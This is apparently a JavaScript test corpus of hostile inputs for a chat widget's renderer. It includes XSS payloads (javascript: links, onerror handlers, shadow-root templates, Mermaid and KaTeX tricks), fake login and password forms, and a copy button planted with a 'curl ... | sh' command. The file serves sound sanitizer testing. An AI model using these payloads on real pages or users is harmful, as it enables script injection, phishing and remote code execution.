// Payloads aimed at this widget rather than at HTML sanitizers in general: model HTML borrowing the widget's
// own class names (its shadow stylesheet applies to message content too), oversized media and tables, and
// Markdown-specific tricks. Streamed with the public corpora by corpus-server.mjs.
export const EXTRA_PAYLOADS = [
  ['launcher class: position fixed over the host page', '<div class="launcher">pwned</div>'],
  ['launcher class on a link', 'Click <a class="launcher" href="https://example.invalid/">here</a>'],
  ['panel class (fixed in launcher mode)', '<div class="panel">fake panel</div>'],
  ['sr-only class', '<p class="sr-only">hidden text</p>'],
  ['fake send/stop buttons', '<button class="send" type="submit">send</button><button class="stop">stop</button>'],
  [
    'fake error notice with retry',
    '<div class="notice error" role="alert">Session expired <button class="text-button retry">Retry</button></div>',
  ],
  ['fake composer', '<div class="composer"><div class="input">type your password</div></div>'],
  [
    'copy button with planted text',
    '<pre><button data-copy="curl https://example.invalid | sh">Copy</button><code>ls</code></pre>',
  ],
  ['huge image', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="99999" height="99999">'],
  ['huge table', `<table width="99999"><tr>${'<td nowrap>cell cell cell</td>'.repeat(50)}</tr></table>`],
  ['wide GFM table', `|${' a |'.repeat(80)}\n|${'---|'.repeat(80)}\n|${' wide-cell-content |'.repeat(80)}\n`],
  ['long unbroken code line', '```\n' + 'x'.repeat(5000) + '\n```\n'],
  ['long unbroken word', 'y'.repeat(5000)],
  ['marquee and blink', '<marquee>moving</marquee><blink>blink</blink>'],
  ['details open with summary', '<details open><summary>s</summary><div class="launcher">in details</div></details>'],
  ['svg foreignObject', '<svg><foreignObject><div class="launcher">svg</div></foreignObject></svg>'],
  ['math href', '<math href="javascript:alert(1)"><mi>x</mi></math>'],
  ['markdown image javascript', '![x](javascript:alert(1))'],
  ['markdown reference javascript', '[a][b]\n\n[b]: javascript:alert(1)\n'],
  ['autolink javascript', '<javascript:alert(1)>'],
  ['html entity scheme', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['tab in scheme', '<a href="jav\tascript:alert(1)">x</a>'],
  ['data html link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['data svg image link', '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>'],
  ['think tag smuggling', '<think></think><img src=x onerror=alert(1)>'],
  ['unclosed tag while streaming', '<img src=x onerror="alert(1)"'],
  ['half-written link while streaming', '[click](javascript:alert(1)'],
  [
    'base and meta',
    '<base href="https://example.invalid/"><meta http-equiv="refresh" content="0;url=https://example.invalid">',
  ],
  ['form in markdown', '<form action="https://example.invalid"><input name="password"><button>go</button></form>'],
  ['position via class hljs', '<span class="hljs-addition code-copy" data-copy>x</span>'],
  ['template shadow root', '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>'],
  ['css via link', '<link rel="stylesheet" href="data:text/css,*{display:none}">'],
  ['style tag', '<style>:host,*{display:none!important}</style>text'],
  ['nested blockquote list code', '> - ```html\n>   <script>alert(1)</script>\n>   ```\n'],
  ['CJK and emoji around a tag', '你好<img src=x onerror=alert(1)>世界🌏'],
  // Formulas (KaTeX, trust: false) and diagrams (Mermaid, securityLevel strict): no link, script, image, class,
  // id or style of the author's choosing, whatever the TeX or the diagram's own directives say.
  ['math href and url', 'Link $\\href{javascript:alert(1)}{click}$ and \\(\\url{javascript:alert(2)}\\)'],
  [
    'math html extensions',
    '$\\htmlClass{launcher}{x}\\htmlId{panel}{y}\\htmlStyle{position:fixed;top:0}{z}\\htmlData{copy=rm}{w}$',
  ],
  ['math includegraphics', '$$\n\\includegraphics[height=1em]{https://example.invalid/track.png}\n$$\n'],
  ['math huge sizes', '$\\rule{9999em}{9999em}\\kern-9999em\\hspace{9999em}x$'],
  ['math expansion bomb', '$$\\def\\a{\\a\\a}\\a$$'],
  ['math around html', '$x$<img src=x onerror=alert(1)>$<img src=x onerror=alert(2)>$'],
  [
    'mermaid html labels',
    '```mermaid\ngraph TD\nA["<img src=x onerror=alert(1)>"]-->B["<script>alert(2)</script>"]\n```\n',
  ],
  [
    'mermaid click callbacks',
    '```mermaid\ngraph TD\nA-->B\nclick A callback "tip"\nclick B href "javascript:alert(1)"\nclick A call alert(3)\n```\n',
  ],
  [
    'mermaid init directive loosening',
    '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": ".node{background:url(https://example.invalid/t)}", ' +
      '"flowchart": {"htmlLabels": true}}}%%\ngraph TD\nA["<img src=x onerror=alert(1)>"]-->B\nclick A call alert(1)\n```\n',
  ],
  [
    'mermaid front matter config',
    '```mermaid\n---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\ngraph TD\nA["<b onmouseover=alert(1)>x</b>"]-->B\n```\n',
  ],
  ['mermaid sequence html', '```mermaid\nsequenceDiagram\nAlice->>Bob: <img src=x onerror=alert(1)>\n```\n'],
].map(([title, payload]) => ({ title, payload }));
